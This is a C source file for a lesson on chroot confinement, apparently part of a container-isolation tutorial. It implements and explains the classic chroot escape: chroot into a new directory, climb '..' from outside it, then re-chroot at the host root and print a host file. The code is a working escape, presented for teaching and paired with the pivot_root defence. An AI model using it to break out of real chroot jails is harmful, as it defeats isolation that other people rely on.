/* breakout: the classic escape from a chroot, for step 01's lesson.
 *
 * chroot(2) changes where path lookup starts for "/", and nothing else. The
 * kernel stops ".." at the process's root directory only when the walk passes
 * through it. So: make a directory, chroot into it while the working
 * directory stays outside it, then climb ".." until the real root, and
 * chroot(".") there. A mount namespace with pivot_root (step 03) leaves no
 * host root to climb to.
 *
 * Usage: breakout [FILE]   prints FILE (default /etc/os-release) as the
 *                          host sees it, if the escape works. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int make_trap_dir(char *path, size_t len)
{
	static const char *const parents[] = { "/", "/tmp" };

	for (size_t i = 0; i < sizeof(parents) / sizeof(parents[0]); i++) {
		snprintf(path, len, "%s/.breakout-%d", strcmp(parents[i], "/") ? parents[i] : "",
			 (int)getpid());
		if (mkdir(path, 0700) == 0)
			return 0;
	}
	return -1;
}

int main(int argc, char **argv)
{
	const char *file = argc > 1 ? argv[1] : "/etc/os-release";
	char trap[64], buf[4096];
	ssize_t n;
	int fd;

	if (chdir("/") < 0 || make_trap_dir(trap, sizeof(trap)) < 0) {
		fprintf(stderr, "breakout: cannot make a directory to chroot into: %s\n",
			strerror(errno));
		return 2;
	}
	/* Root moves into the trap directory; the working directory does not. */
	if (chroot(trap) < 0) {
		fprintf(stderr, "breakout: chroot(%s): %s\n", trap, strerror(errno));
		rmdir(trap);
		return 2;
	}
	rmdir(trap + 1); /* relative to "/", where we still are */
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		fprintf(stderr, "breakout: chroot(.): %s\n", strerror(errno));
		return 2;
	}

	fd = open(file, O_RDONLY | O_CLOEXEC);
	if (fd < 0) {
		fprintf(stderr, "breakout: could not reach %s outside: %s: the escape failed\n",
			file, strerror(errno));
		return 1;
	}
	fprintf(stderr, "breakout: escaped; this is %s of the host:\n", file);
	while ((n = read(fd, buf, sizeof(buf))) > 0)
		if (write(STDOUT_FILENO, buf, (size_t)n) != n)
			return 2;
	close(fd);
	return 0;
}
